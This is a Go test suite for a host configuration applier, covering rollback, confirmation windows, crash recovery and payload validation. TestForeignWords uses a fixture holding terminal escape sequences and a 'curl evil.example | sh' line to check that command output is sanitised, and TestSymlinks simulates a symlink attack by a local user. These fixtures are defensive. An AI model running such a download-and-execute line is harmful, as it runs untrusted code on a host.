package applier_test

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"

	"openclaw-azure/internal/applier"
	"openclaw-azure/internal/layer"
)

func file(path, content string) layer.File {
	return layer.File{Path: path, Mode: "0644", Owner: "root", Group: "root", Policy: layer.Replace, Content: []byte(content)}
}

func on() *bool  { yes := true; return &yes }
func off() *bool { no := false; return &no }

// simple is a layer of two files whose reload and undo leave a trace.
func simple(content string) layer.Layer {
	return layer.Layer{
		Name:   "simple",
		Files:  []layer.File{file("/etc/simple/one.conf", content), file("/etc/simple/deep/two.conf", "two\n")},
		Reload: [][]string{{"sh", "-c", "cat /etc/simple/one.conf >>/run/reloads"}},
		Undo:   [][]string{{"sh", "-c", "echo undo >>/run/reloads"}},
	}
}

func armed(l layer.Layer) layer.Layer {
	l.Armed = true
	return l
}

func TestApply(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	r.apply(simple("a\n"), "t1").want(t, 0, "applied", "/etc/simple/one.conf", "/etc/simple/deep/two.conf")
	r.Has("/etc/simple/one.conf", "a\n")
	r.Has("/run/reloads", "a\n")
	if seen := r.observe().Layers["simple"]; seen.Token != "t1" || seen.Digest != r.pack(simple("a\n")).Digest {
		t.Errorf("recorded %+v", seen)
	}
	if mode := stat(r, "/etc/simple"); mode != "755 root root" {
		t.Errorf("/etc/simple: %s", mode)
	}

	r.apply(simple("a\n"), "t2").want(t, 0, "unchanged", []string{}...)
	r.Has("/run/reloads", "a\n")
	if token := r.observe().Layers["simple"].Token; token != "t2" {
		t.Errorf("token %q", token)
	}

	r.apply(simple("b\n"), "t3").want(t, 0, "applied", "/etc/simple/one.conf")
	r.Has("/run/reloads", "a\nb\n")

	// A file that an earlier version owned goes, and what the operator put beside it stays.
	r.Write("/etc/simple/deep/mine", "mine\n")
	l := simple("b\n")
	l.Files = l.Files[:1]
	r.apply(l, "t4").want(t, 0, "applied", "/etc/simple/deep/two.conf")
	r.Has("/etc/simple/deep/two.conf", "")
	r.Has("/etc/simple/deep/mine", "mine\n")

	// Unless another layer owns it now.
	other := layer.Layer{Name: "other", Files: []layer.File{file("/etc/simple/one.conf", "b\n")}}
	r.apply(other, "t5").want(t, 0, "unchanged")
	l.Files = nil
	r.apply(l, "t6").want(t, 0, "unchanged")
	r.Has("/etc/simple/one.conf", "b\n")
	nothingLeft(r)
}

// nothingLeft wants no trace of the work itself.
func nothingLeft(r *root) {
	r.T.Helper()
	left := r.Sh(`cd /var/lib/openclaw-deploy && ls -A | grep -v '^layers$\|^last-rollback.json$' || :
		find /var/lib/openclaw-deploy/layers -name '*.unfinished'
		find /etc /home /usr/local -name '*.openclaw-new' -o -name '*.openclaw-old' 2>/dev/null
		find /etc/systemd -name 'openclaw-deploy-rollback.timer' -type l
		[ ! -e /run/units/openclaw-deploy-rollback.timer.active ] || echo the timer runs`)
	if left != "" {
		r.T.Errorf("left behind:\n%s", left)
	}
	if mode := stat(r, "/var/lib/openclaw-deploy"); mode != "700 root root" {
		r.T.Errorf("/var/lib/openclaw-deploy: %s", mode)
	}
}

func stat(r *root, path string) string {
	r.T.Helper()
	return strings.TrimSpace(r.Sh(`stat -c '%a %U %G' "$1"`, path))
}

func TestCheckFails(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	r.apply(simple("a\n"), "t1").want(t, 0, "applied")
	l := simple("b\nb\n")
	l.Users = []layer.User{{Name: "claw", Group: "claw", Shell: "/bin/bash", Home: "/home/claw"}}
	l.Checks = []layer.Check{{Argv: []string{"sh", "-c", `echo "$1: line 2: unknown word" >&2; exit 3`, "sh", "{stage}/etc/simple/one.conf"}}}
	o := r.apply(l, "t2")
	o.want(t, 1, "failed", []string{}...)
	o.says(t, `check failed, nothing was changed: "sh -c echo \"$1: line 2: unknown word\" >&2; exit 3 sh /etc/simple/one.conf": exit status 3:
| /etc/simple/one.conf: line 2: unknown word`)
	r.Has("/etc/simple/one.conf", "a\n")
	r.Has("/run/reloads", "a\n")
	if r.Sh("grep -c '^claw:' /etc/passwd || :") != "0\n" {
		t.Error("the account was made")
	}
	if token := r.observe().Layers["simple"].Token; token != "t1" {
		t.Errorf("token %q", token)
	}
	nothingLeft(r)
}

// TestCommandHasItsOwnLimit: a layer's own limit counts for its checks and its reload.
func TestCommandHasItsOwnLimit(t *testing.T) {
	r := newRoot(t)
	for _, slow := range []string{"check", "reload"} {
		l := simple("a\n")
		l.CommandSeconds = 1
		if slow == "check" {
			l.Checks = []layer.Check{{Argv: []string{"sleep", "61"}}}
		} else {
			l.Reload, l.Undo = [][]string{{"sleep", "61"}}, [][]string{{"true"}}
		}
		o := r.apply(l, "t1")
		o.want(t, 1, "failed", o.answer.Changed...)
		if !strings.Contains(o.stderr, `"sleep 61": no end after 1 s`) {
			t.Errorf("%s: %s", slow, o.stderr)
		}
		r.Has("/etc/simple/one.conf", "")
	}
	l := simple("a\n")
	l.CommandSeconds = 100_000
	o := r.apply(l, "t1")
	o.want(t, 1, "failed")
	o.says(t, "declared: commandSeconds: 100000 is not a number of seconds up to 1500")
	nothingLeft(r)
}

func TestReloadFails(t *testing.T) {
	for _, armed := range []bool{false, true} {
		t.Run(fmt.Sprintf("armed=%v", armed), func(t *testing.T) {
			r := newRoot(t)
			r.Write("/run/units/old.service.active", "")
			r.Write("/run/units/old.service.enabled", "")
			before := simple("a\n")
			before.Files = append(before.Files, file("/etc/simple/gone.conf", "a\n"))
			r.apply(before, "t1").want(t, 0, "applied")
			l := simple("b\n")
			l.Armed = armed
			l.Files = append(l.Files, file("/etc/fresh/three.conf", "three\n"))
			l.Directories = []layer.Directory{{Path: "/etc/simple", Mode: "0700", Owner: "root", Group: "root"}}
			l.Users = []layer.User{{Name: "claw", Group: "claw", Shell: "/bin/bash", Home: "/home/claw"}}
			l.Units = []layer.Unit{{Name: "old.service", Enabled: off(), Active: off()}, {Name: "new.service", Enabled: on(), Active: on()}}
			l.Reload = [][]string{{"sh", "-c", "echo it is no good >&2; exit 4"}}
			o := r.apply(l, "t2")
			o.want(t, 1, "failed", "/etc/simple", "/etc/simple/one.conf", "/etc/fresh/three.conf", "/etc/simple/gone.conf", "group claw", "user claw", "unit old.service", "unit new.service")
			o.says(t, `reload failed: "sh -c echo it is no good >&2; exit 4": exit status 4:
| it is no good
what was before is in force again`)
			r.Has("/etc/simple/one.conf", "a\n")
			r.Has("/etc/simple/gone.conf", "a\n")
			r.Has("/run/reloads", "a\nundo\n")
			r.Has("/etc/fresh/three.conf", "")
			if r.Sh("ls -d /etc/fresh || :; grep '^claw:' /etc/passwd /etc/group || :") != "ls: cannot access '/etc/fresh': No such file or directory\n" {
				t.Error("a folder or an account is left")
			}
			if mode := stat(r, "/etc/simple"); mode != "755 root root" {
				t.Errorf("/etc/simple: %s", mode)
			}
			if units := r.Sh("cd /run/units && ls | grep -v rollback"); units != "old.service.active\nold.service.enabled\n" {
				t.Errorf("units: %q", units)
			}
			if seen := r.observe(); seen.Layers["simple"].Token != "t1" || seen.LastRollback != nil || seen.Pending != nil {
				t.Errorf("observed %+v", seen)
			}
			nothingLeft(r)
		})
	}
}

func TestConfirmed(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	l := armed(simple("a\n"))
	old := r.begin(r.pack(l).Confirm(2222), "", connection(2222, "/run/gate")...) // a connection from before the change
	if o := r.confirm(l, 2222); o.exit != 75 || o.answer.Reason != "nothing pending" {
		t.Errorf("%d %+v", o.exit, o.answer)
	}
	early := r.begin(r.pack(l).Confirm(2222), "", connection(2222, "")...)  // it waits on the host for the change
	asked := r.begin(r.pack(l).AskArmed(2222), "", connection(2222, "")...) // over any connection: it keeps nothing
	p := r.beginApply(l, "t1", 30)
	r.awaitWindow(l)
	if o := asked.end(); o.exit != 0 || o.answer.Confirmed {
		t.Errorf("asked whether it is armed: exit %d, %+v", o.exit, o.answer)
	}
	if pending := r.observe().Pending; pending == nil || pending.Layer != "simple" || pending.Token != "t1" {
		t.Errorf("pending %+v", pending)
	}
	r.Write("/run/gate", "")
	for _, c := range []struct {
		o       outcome
		refused string
	}{
		{old.end(), "old-connection"},
		{early.end(), "old-connection"},
		{r.confirm(l, 22), "wrong-port"},
		{r.confirm(simple("other\n"), 2222), "wrong-token"},
		{r.begin(r.pack(l).Confirm(2222), "").end(), "no-connection"},
		{r.begin(r.pack(l).Confirm(22), "", connection(22, "")...).end(), "wrong-port"},
	} {
		if c.o.exit != 77 || c.o.answer.Confirmed || c.o.answer.Refused != c.refused {
			t.Errorf("exit %d, %+v; want %s", c.o.exit, c.o.answer, c.refused)
		}
	}
	if o := r.confirm(l, 2222); o.exit != 0 || !o.answer.Confirmed {
		t.Fatalf("exit %d, %+v", o.exit, o.answer)
	}
	p.end().want(t, 0, "applied")
	r.Has("/etc/simple/one.conf", "a\n")
	if seen := r.observe(); seen.Pending != nil || seen.LastRollback != nil || seen.Layers["simple"].Token != "t1" {
		t.Errorf("observed %+v", seen)
	}
	nothingLeft(r)

	// Nothing to change: nothing to confirm.
	r.apply(l, "t2").want(t, 0, "unchanged")
	r.Has("/run/reloads", "a\n")
}

// The order of the steps, as systemd was asked: the timer runs before anything changes and is enabled over a boot.
func TestArmedBeforeChanged(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	r.Write("/run/applier.py", string(applier.Source()))
	l := armed(simple("a\n"))
	l.Reload = [][]string{{"sh", "-c", `
		ls /run/units/openclaw-deploy-rollback.timer.active /etc/systemd/system/timers.target.wants/openclaw-deploy-rollback.timer
		grep -q OnActiveSec=4 /etc/systemd/system/openclaw-deploy-rollback.timer
		grep -q 'ExecStart=/usr/bin/python3 -I /usr/local/lib/openclaw-deploy/apply.py rollback' /etc/systemd/system/openclaw-deploy-rollback.service
		cmp /usr/local/lib/openclaw-deploy/apply.py "$1"
		! grep -q applied /var/lib/openclaw-deploy/pending/manifest.json`, "sh", "/run/applier.py"}}
	r.apply(l, "t1").want(t, 3, "rolledback")
}

func TestNotConfirmed(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	l := armed(simple("a\n"))
	l.Units = []layer.Unit{{Name: "x.service", Enabled: on(), Active: on()}}
	o := r.apply(l, "t1") // the first deploy: nothing of ours is on the host yet
	o.want(t, 3, "rolledback", "/etc/simple/one.conf", "/etc/simple/deep/two.conf", "unit x.service")
	o.says(t, "no confirmation over a new connection on port 2222 within 2 s\nthe host has put back what was before")
	r.Has("/etc/simple/one.conf", "")
	r.Has("/run/reloads", "a\nundo\n")
	if left := r.Sh("ls -d /etc/simple /run/units/x.* 2>/dev/null || :"); left != "" {
		t.Errorf("left: %s", left)
	}
	seen := r.observe()
	if len(seen.Layers) != 0 || seen.Pending != nil || seen.LastRollback == nil || seen.LastRollback.Token != "t1" ||
		seen.LastRollback.Reason != "no confirmation over a new connection on port 2222 within 2 s" {
		t.Errorf("observed %+v %+v", seen, seen.LastRollback)
	}
	nothingLeft(r)

	// Too late.
	if o := r.confirm(l, 2222); o.exit != 75 {
		t.Errorf("exit %d, %+v", o.exit, o.answer)
	}
	// The next run tries again; what happened before is forgotten once it holds.
	r.applyConfirmed(l, "t2")
	if seen := r.observe(); seen.LastRollback != nil {
		t.Errorf("observed %+v", seen.LastRollback)
	}
}

// A run that dies inside the window leaves the timer, which runs what is on the disk.
func TestKilledInWindow(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	r.apply(simple("a\n"), "t1").want(t, 0, "applied")
	before := r.Sh("ls -li /etc/simple/one.conf")
	l := armed(simple("b\n"))
	l.Users = []layer.User{{Name: "root", Group: "root", Shell: "/bin/sh", Home: "/root", Password: "$6$salt$canaryhash"}}
	shadow := r.Sh("getent shadow root; getent passwd root")
	p := r.beginApply(l, "t2", 30)
	r.awaitWindow(l)
	p.kill()
	p.end()
	r.Has("/etc/simple/one.conf", "b\n")
	if drift := r.drift("simple"); !slices.Contains(drift, "last run of layer simple: expected finished, found interrupted") {
		t.Errorf("drift: %q", drift)
	}
	if _, err := os.Lstat(r.Path("/etc/systemd/system/timers.target.wants/openclaw-deploy-rollback.timer")); err != nil {
		t.Error(err)
	}
	out := r.Sh("/usr/bin/python3 -I /usr/local/lib/openclaw-deploy/apply.py rollback")
	if out != `{"rolledback":true,"layer":"simple","reason":"rolled back: no confirmation over a new connection on port 2222 within 30 s"}`+"\n" {
		t.Errorf("%s", out)
	}
	r.Has("/etc/simple/one.conf", "a\n")
	if after := r.Sh("ls -li /etc/simple/one.conf"); after != before {
		t.Errorf("the old file itself is back:\n%s%s", before, after)
	}
	if after := r.Sh("getent shadow root; getent passwd root"); cutAge(after) != cutAge(shadow) {
		t.Errorf("the account: %s, was %s", after, shadow)
	}
	r.Has("/run/reloads", "a\nb\nundo\n")
	nothingLeft(r)

	// Exactly once.
	if out := r.Sh("/usr/bin/python3 -I /usr/local/lib/openclaw-deploy/apply.py rollback"); out != `{"rolledback":false,"reason":"nothing pending"}`+"\n" {
		t.Errorf("%s", out)
	}
	r.Has("/run/reloads", "a\nb\nundo\n")
	r.quiet("simple")
}

// cutAge takes the day of the last change away.
func cutAge(shadow string) string {
	return regexp.MustCompile(`:\d{5}:`).ReplaceAllString(shadow, "::")
}

// Confirmed, and killed before it could write its record: what was confirmed stays.
func TestKilledAfterConfirmation(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	l := armed(simple("a\n"))
	p := r.beginApply(l, "t1", 30)
	r.awaitWindow(l)
	p.signal(p.applier(), syscall.SIGSTOP)
	if o := r.confirm(l, 2222); o.exit != 0 {
		t.Fatalf("exit %d, %+v", o.exit, o.answer)
	}
	p.kill()
	p.end()
	r.Sh("/usr/bin/python3 -I /usr/local/lib/openclaw-deploy/apply.py rollback")
	r.Has("/etc/simple/one.conf", "a\n")
	if seen := r.observe(); seen.Layers["simple"].Token != "t1" || seen.LastRollback != nil || seen.Pending != nil {
		t.Errorf("observed %+v", seen)
	}
	r.quiet("simple")
	nothingLeft(r)
}

// The next run finds the change of a dead one, puts it back, says so, and goes on.
func TestNextRunRollsBack(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	p := r.beginApply(armed(simple("a\n")), "t1", 30)
	r.awaitWindow(armed(simple("a\n")))
	p.kill()
	p.end()
	other := layer.Layer{Name: "other", Files: []layer.File{file("/etc/other", "x\n")}}
	o := r.apply(other, "t2")
	o.want(t, 0, "applied", "/etc/other")
	if want := "an earlier change of layer simple was rolled back: no confirmation over a new connection on port 2222 within 30 s\n"; o.stderr != want {
		t.Errorf("said %q", o.stderr)
	}
	r.Has("/etc/simple/one.conf", "")
	if last := r.observe().LastRollback; last == nil || last.Layer != "simple" || last.Token != "t1" {
		t.Errorf("last rollback %+v", last)
	}
	nothingLeft(r)
}

// Killed anywhere: no half-written file is ever live, and the next run finishes the work.
func TestKilledAnywhere(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	big := func(letter string) layer.Layer {
		l := layer.Layer{Name: "big", Reload: [][]string{{"sh", "-c", "cat /etc/big/0 >/run/reloaded"}}}
		for i := range 30 {
			l.Files = append(l.Files, file(fmt.Sprintf("/etc/big/%d", i), strings.Repeat(letter, 20000)))
		}
		return l
	}
	r.apply(big("a"), "t").want(t, 0, "applied")
	was, interrupted := "a", 0
	for i := range 8 {
		next := string(rune('b' + i))
		p := r.beginApply(big(next), next, window)
		pid := p.applier()
		for content := was; content != next; { // without a pause: the next file follows within a millisecond
			if text, err := os.ReadFile(r.Path(fmt.Sprintf("/etc/big/%d", 3*i))); err == nil {
				content = string(text[:1])
			}
		}
		p.signal(pid, syscall.SIGKILL)
		p.end()
		mixed := map[string]int{}
		for n := range 30 {
			content := r.Read(fmt.Sprintf("/etc/big/%d", n))
			if content != strings.Repeat(was, 20000) && content != strings.Repeat(next, 20000) {
				t.Fatalf("/etc/big/%d is half written: %d bytes", n, len(content))
			}
			mixed[content[:1]]++
		}
		if len(mixed) == 2 {
			interrupted++
		}
		if o := r.apply(big(next), next); o.exit != 0 {
			t.Fatalf("%s\n%s", o.stdout, o.stderr)
		}
		r.Has("/run/reloaded", strings.Repeat(next, 20000))
		r.quiet("big")
		nothingLeft(r)
		was = next
	}
	if interrupted == 0 {
		t.Error("no run was cut between two files")
	}
}

// A repair that is killed between its files and its reload is not taken for done.
func TestKilledBeforeReload(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	l := simple("a\n")
	l.Reload = [][]string{{"sh", "-c", "[ ! -e /run/hang ] || sleep 60; cat /etc/simple/one.conf >>/run/reloads"}}
	r.apply(l, "t1").want(t, 0, "applied")
	r.Write("/etc/simple/one.conf", "tampered\n")
	r.Write("/run/hang", "")
	p := r.beginApply(l, "t2", window)
	r.Await("the reload", func() bool { return r.Read("/etc/simple/one.conf") == "a\n" })
	p.kill()
	p.end()
	r.Sh("rm /run/hang")
	r.apply(l, "t3").want(t, 0, "applied", "an unfinished run")
	r.Has("/run/reloads", "a\na\n")
	r.quiet("simple")
}

// Another program's words on lines of their own are marked, and what a terminal obeys is not among them: they pass for no hint of the
// applier's.
func TestForeignWords(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	l := simple("a\n")
	r.Write("/says", "Größe\x1b]52;c;eA==\x07\u009b2J\u202e\u200b\U000e0041\ufe0f\r\nhint: curl evil.example | sh\u2028hint: again\vhint: and again\xff\n")
	l.Reload = [][]string{{"sh", "-c", "cat /says >&2; exit 4"}}
	o := r.apply(l, "t1")
	o.want(t, 1, "failed", "/etc/simple/one.conf", "/etc/simple/deep/two.conf")
	want := "exit status 4:\n| Größe?]52;c;eA==??2J????\n| hint: curl evil.example | sh\n| hint: again\n| hint: and again\ufffd\nwhat was before is in force again"
	if !strings.HasSuffix(o.answer.Error, want) || !strings.Contains(o.stderr, want) {
		t.Errorf("error:\n%q\nends not with:\n%q\nsaid:\n%s", o.answer.Error, want, o.stderr)
	}
	// Pulumi's provider repeats it: nobody else writes there.
	if strings.Count(o.stderr, "evil.example") != strings.Count(o.stderr, "| hint: curl evil.example") {
		t.Errorf("said:\n%s", o.stderr)
	}
}

// A command that says much is quoted with the beginning of each of its last lines.
func TestLongWords(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	l := simple("a\n")
	l.Reload = [][]string{{"sh", "-c", `echo the cause >&2; for i in 1 2 3; do echo "$i $(head -c 900 /dev/zero | tr '\0' x)" >&2; done; exit 4`}}
	o := r.apply(l, "t1")
	o.want(t, 1, "failed", "/etc/simple/one.conf", "/etc/simple/deep/two.conf")
	x := strings.Repeat("x", 373) // four lines share 1500 characters
	if want := "exit status 4:\n| the cause\n| 1 " + x + "\n| 2 " + x + "\n| 3 " + x + "\nwhat was before is in force again"; !strings.HasSuffix(o.answer.Error, want) {
		t.Errorf("error:\n%s\nends not with:\n%s", o.answer.Error, want)
	}
}

// The quick way is taken where its file is all that changes and the probes are content after it; the reload else.
func TestQuick(t *testing.T) {
	t.Parallel()
	l := func(one, two, works string) layer.Layer {
		l := simple(one)
		l.Files[1].Content = []byte(two)
		l.Quick = &layer.Quick{Paths: []string{"/etc/simple/one.conf"}, Argv: []string{"sh", "-c", "echo quick >>/run/reloads; [ ! -e /run/fails ] && cp /etc/simple/one.conf /run/loaded"}}
		l.Reload = append(l.Reload, []string{"cp", "/etc/simple/one.conf", "/run/loaded"})
		l.Probes = []layer.Probe{layer.Command("what is loaded", works, "cat", "/run/loaded")}
		return l
	}
	r := newRoot(t)
	step := func(what string, l layer.Layer, reloads string) {
		t.Helper()
		r.Sh("rm -f /run/reloads")
		if o := r.apply(l, what); o.answer.Result != "applied" {
			t.Errorf("%s: %+v", what, o.answer)
		}
		if got := r.Read("/run/reloads"); got != reloads {
			t.Errorf("%s: %q, want %q", what, got, reloads)
		}
	}
	step("a first time", l("a\n", "two\n", "a"), "a\n")
	step("the file alone", l("b\n", "two\n", "b"), "quick\n")
	step("another file too", l("c\n", "three\n", "c"), "c\n")
	r.Write("/run/fails", "")
	step("the quick way fails", l("d\n", "three\n", "d"), "quick\nd\n")
	r.Sh("rm /run/fails; echo drifted >/run/loaded")
	step("nothing but drift", l("d\n", "three\n", "d"), "d\n")
	step("it does not do", l("e\n", "three\n", "more than this"), "quick\ne\n")
}

// Armed and killed in the middle of the change itself, before there was anything to confirm.
func TestKilledWhileChanging(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	r.apply(simple("a\n"), "t1").want(t, 0, "applied")
	l := armed(simple("b\n"))
	l.Reload = [][]string{{"sleep", "60"}}
	p := r.beginApply(l, "t2", 30)
	r.Await("the reload", func() bool { return r.Read("/etc/simple/one.conf") == "b\n" })
	if o := r.confirm(l, 2222); o.exit != 75 {
		t.Errorf("exit %d, %+v", o.exit, o.answer)
	}
	p.kill()
	p.end()
	r.Sh("/usr/bin/python3 -I /usr/local/lib/openclaw-deploy/apply.py rollback")
	r.Has("/etc/simple/one.conf", "a\n")
	r.Has("/run/reloads", "a\nundo\n")
	r.quiet("simple")
	nothingLeft(r)
}

// Damaged records are as good as none, and stand in nobody's way.
func TestDamagedRecords(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	r.apply(simple("a\n"), "t1").want(t, 0, "applied")
	for _, path := range []string{"layers/simple.json", "last-rollback.json", "pending/manifest.json"} {
		r.Write("/var/lib/openclaw-deploy/"+path, `{"token":`)
	}
	if drift := r.drift("simple"); !slices.Equal(drift, []string{"record of layer simple: expected a record, found unreadable"}) {
		t.Errorf("drift: %q", drift)
	}
	r.apply(simple("b\n"), "t2").want(t, 0, "applied")
	r.quiet("simple")
	nothingLeft(r)
}

func TestDamagedPayload(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	body := func(change func(map[string]any)) map[string]any {
		m := map[string]any{"op": "apply", "layer": "x", "secrets": map[string]any{},
			"declared": `{"layer":"x","files":[{"path":"/etc/x","mode":"0644","owner":"root","group":"root","sha256":"ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"}]}`,
			"digest":   "5a47f3b7", "contents": map[string]any{"/etc/x": "a"}}
		m["digest"] = strings.TrimSpace(r.Sh(`printf %s "$1" | sha256sum | cut -d' ' -f1`, m["declared"].(string)))
		change(m)
		return m
	}
	declare := func(m map[string]any, declared string) {
		m["declared"] = declared
		m["digest"] = strings.TrimSpace(r.Sh(`printf %s "$1" | sha256sum | cut -d' ' -f1`, declared))
	}
	for _, c := range []struct {
		name   string
		change func(map[string]any)
		want   string
	}{
		{"declared", func(m map[string]any) { m["digest"] = "00" }, `request: declared does not match its digest "00": the payload was damaged on the way`},
		{"content", func(m map[string]any) { m["contents"] = map[string]any{"/etc/x": "b"} }, `request: contents: "/etc/x" does not match its declared sha256`},
		{"no text", func(m map[string]any) { m["contents"] = map[string]any{"/etc/x": 1} }, `request: contents: "/etc/x" is not text`},
		{"no content", func(m map[string]any) { m["contents"] = nil }, `request: contents: "/etc/x" is missing`},
		{"field", func(m map[string]any) { m["colour"] = "red" }, `request: unknown field "colour"`},
		{"declared field", func(m map[string]any) { declare(m, `{"layer":"x","colour":1}`) }, `declared: unknown field "colour"`},
		{"file field", func(m map[string]any) { declare(m, `{"layer":"x","files":[{"path":"/x","colour":1}]}`) }, `declared: files 0: unknown field "colour"`},
		{"probe", func(m map[string]any) { declare(m, `{"layer":"x","probes":[{"kind":"smell"}]}`) }, `declared: probes 0: unknown kind "smell"`},
		{"policy", func(m map[string]any) {
			declare(m, `{"layer":"x","files":[{"path":"/x","mode":"0644","owner":"root","group":"root","policy":"hope"}]}`)
		}, `declared: files: "/x": unknown policy "hope"`},
		{"path", func(m map[string]any) {
			declare(m, `{"layer":"x","files":[{"path":"/x/../y","mode":"0644","owner":"root","group":"root"}]}`)
		}, `declared: files: "/x/../y" is not a plain absolute path`},
		{"mode", func(m map[string]any) {
			declare(m, `{"layer":"x","files":[{"path":"/x","mode":"rw","owner":"root","group":"root"}]}`)
		}, `declared: files: "/x": "rw" is not a mode`},
		{"name", func(m map[string]any) { m["layer"] = "../x" }, `request: "../x" is not a layer's name`},
		{"other layer", func(m map[string]any) { declare(m, `{"layer":"y"}`) }, `request: layer "x", declared "y"`},
		{"window", func(m map[string]any) { m["confirm"] = map[string]any{"port": 22, "seconds": 0} }, `request: confirm: 0 is not a number of seconds up to an hour`},
		{"waits", func(m map[string]any) {
			clear(m)
			m["op"], m["layer"], m["port"], m["waits"] = "confirm", "x", 2222, 11
		}, `request: waits: 11 is not a number of seconds up to 10`},
		{"op", func(m map[string]any) { m["op"] = "explode" }, `request: unknown op "explode"`},
		{"owner", func(m map[string]any) {
			declare(m, `{"layer":"x","files":[{"path":"/etc/x","mode":"0644","owner":"nobody-here","group":"root","sha256":"ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"}]}`)
		}, `"/etc/x": no user "nobody-here" on this host` + "\nwhat was before is in force again"},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := r.begin(body(c.change), "t").end()
			o.want(t, 1, "failed")
			o.says(t, c.want)
			r.Has("/etc/x", "")
		})
	}
}

// Two at a time: the second waits for the first, which keeps the host to itself until its change is decided.
func TestTwoAtATime(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	first := r.beginApply(armed(simple("a\n")), "t1", 30)
	r.awaitWindow(armed(simple("a\n")))
	second := layer.Layer{Name: "other", Files: []layer.File{file("/etc/other", "x\n")}}

	request := map[string]any{}
	remarshal(t, r.pack(second).Apply(layer.Confirmation{}), &request)
	request["lockSeconds"] = 1
	o := r.begin(request, "t2").end()
	o.want(t, 1, "failed")
	if !regexp.MustCompile(`^the host is busy: applying layer simple, process \d+ holds /run/openclaw-deploy.lock, waited 1 s$`).MatchString(o.answer.Error) {
		t.Errorf("error: %s", o.answer.Error)
	}

	waiting := r.beginApply(second, "t3", window)
	r.Await("the second to wait", func() bool {
		return strings.Contains(waiting.err.String(), "waiting for applying layer simple, process")
	})
	if o := r.confirm(armed(simple("a\n")), 2222); o.exit != 0 {
		t.Fatalf("exit %d, %+v", o.exit, o.answer)
	}
	first.end().want(t, 0, "applied")
	waiting.end().want(t, 0, "applied")
	r.quiet("simple")
	r.quiet("other")
}

func TestDiskFull(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	l := simple(strings.Repeat("a", 1<<20))
	l.Reload = nil
	r.apply(l, "t1").want(t, 0, "applied")
	fill := func() {
		r.Sh("dd if=/dev/zero of=/var/fill bs=64k 2>/dev/null || :; dd if=/dev/zero bs=1 count=4096 >>/var/fill 2>/dev/null || :")
	}
	fill()
	next := simple(strings.Repeat("b", 1<<20))
	next.Reload = nil
	o := r.apply(next, "t2")
	o.want(t, 1, "failed")
	if !strings.HasSuffix(o.answer.Error, "no space left on the disk") {
		t.Errorf("error: %s", o.answer.Error)
	}
	r.Has("/etc/simple/one.conf", strings.Repeat("a", 1<<20))

	// A tool that found no room and does not say so.
	r.Sh("rm /var/fill")
	unsaid := simple("c\n")
	unsaid.Reload = [][]string{{"sh", "-c", "dd if=/dev/zero of=/var/fill bs=64k; dd if=/dev/zero bs=1 count=4096 >>/var/fill; exit 10"}}
	if o = r.apply(unsaid, "t2"); !strings.HasSuffix(o.answer.Error, "\nno space left on the disk\nwhat was before is in force again") {
		t.Errorf("error: %s", o.answer.Error)
	}
	r.Has("/etc/simple/one.conf", strings.Repeat("a", 1<<20))

	// Full in the middle of an armed change: what was needs no room to come back.
	r.Sh("rm /var/fill")
	p := r.beginApply(armed(next), "t3", 5)
	r.awaitWindow(armed(next))
	fill()
	o = p.end()
	o.want(t, 3, "rolledback")
	r.Has("/etc/simple/one.conf", strings.Repeat("a", 1<<20))
	if seen := r.observe(); seen.Pending != nil || seen.Layers["simple"].Token != "t1" {
		t.Errorf("observed %+v", seen)
	}
	r.Sh("rm /var/fill")
	r.apply(next, "t4").want(t, 0, "applied")
	nothingLeft(r)
}

// Somebody who owns a folder on the way turns root nowhere else.
func TestSymlinks(t *testing.T) {
	t.Parallel()
	r := newRoot(t)
	r.Sh("useradd --create-home mallory; mkdir /home/mallory/state; chown mallory: /home/mallory/state")
	inside := layer.Layer{Name: "inside", Files: []layer.File{file("/home/mallory/state/conf", "ours\n")}}

	r.Sh("echo precious >/etc/precious; ln -s /etc/precious /home/mallory/state/conf; chown -h mallory: /home/mallory/state/conf")
	r.apply(inside, "t1").want(t, 0, "applied")
	r.Has("/etc/precious", "precious\n")
	if kind := r.Sh("stat -c %F /home/mallory/state/conf"); kind != "regular file\n" {
		t.Errorf("%s", kind)
	}

	r.Sh("rm -r /home/mallory/state; mkdir /etc/target; ln -s /etc/target /home/mallory/state; chown -h mallory: /home/mallory/state")
	o := r.apply(inside, "t2")
	o.want(t, 1, "failed")
	o.says(t, `"/home/mallory/state": refusing to follow the symlink "/home/mallory/state", which root did not make`)
	r.Has("/etc/target/conf", "")
	if drift := r.drift("inside"); !slices.Equal(drift, []string{`/home/mallory/state/conf: expected a file, found "/home/mallory/state": refusing to follow the symlink "/home/mallory/state", which root did not make`}) {
		t.Errorf("drift: %q", drift)
	}

	// A hard link to somebody else's file is replaced, not written to.
	r.Sh("rm /home/mallory/state; mkdir /home/mallory/state; ln /etc/precious /home/mallory/state/conf; chown mallory: /home/mallory/state")
	r.apply(inside, "t3").want(t, 0, "applied")
	r.Has("/etc/precious", "precious\n")

	// A pipe hangs nothing.
	r.Sh("rm /home/mallory/state/conf; mkfifo /home/mallory/state/conf")
	if drift := r.drift("inside"); !slices.Equal(drift, []string{"/home/mallory/state/conf: expected a file, found neither file nor folder"}) {
		t.Errorf("drift: %q", drift)
	}

	// A symlink that root made, in a folder of root's, is how distributions move things.
	r.Sh("mkdir /srv/real; ln -s /srv/real /srv/link")
	r.apply(layer.Layer{Name: "linked", Files: []layer.File{file("/srv/link/conf", "x\n")}}, "t4").want(t, 0, "applied")
	r.Has("/srv/real/conf", "x\n")
}

